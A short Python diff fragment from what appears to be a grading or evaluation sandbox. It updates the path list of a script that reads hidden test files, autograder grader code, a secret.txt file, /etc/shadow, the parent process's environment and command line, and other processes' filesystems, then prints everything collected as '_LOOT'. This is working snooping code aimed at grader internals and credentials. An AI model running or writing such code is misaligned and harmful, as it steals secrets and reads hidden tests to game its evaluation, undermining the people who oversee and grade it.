@@ -23,13 +23,13 @@ def _grab(path):
 
 for _path in [
     "__HIDDEN__", "__HIDDEN__/hidden_initializers.py", "__HIDDEN__/hidden_training.py",
-    "__KIT__/autograder", "__KIT__/autograder/grading.py", "__KIT__/autograder/checks/initializers.py",
+    "__KIT__/autograder", "__KIT__/autograder/grading/grader.py", "__KIT__/autograder/checks/initializers.py",
     "__OUT__", "__OUT__/secret.txt", "__OTHER__", "__OTHER__/initializers.py",
     "/proc/1/cmdline", f"/proc/{_os.getppid()}/cmdline", f"/proc/{_os.getppid()}/environ", "/proc/self/mountinfo",
     "/etc/shadow", "..", "../..", "/", "/tmp", "/root", "/work",
 ]:
     _grab(_path)
-for _path in _glob.glob("/proc/[0-9]*/cwd") + _glob.glob("/proc/[0-9]*/root/__KIT__/autograder/grading.py"):
+for _path in _glob.glob("/proc/[0-9]*/cwd") + _glob.glob("/proc/[0-9]*/root/__KIT__/autograder/grading/grader.py"):
     _grab(_path)
 _LOOT = "\n".join(_READ)
 print(_LOOT)
